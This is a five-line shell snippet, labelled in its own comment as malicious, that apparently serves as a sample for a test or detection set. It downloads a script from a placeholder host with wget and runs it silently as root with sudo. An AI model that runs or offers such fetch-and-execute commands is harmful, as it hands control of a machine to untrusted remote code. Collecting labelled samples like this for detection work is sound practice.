# malicious: fetches a script, then runs it
cd "$(mktemp -d)"
wget https://example.org/pkg/setup.sh
chmod 755 setup.sh
sudo ./setup.sh --silent
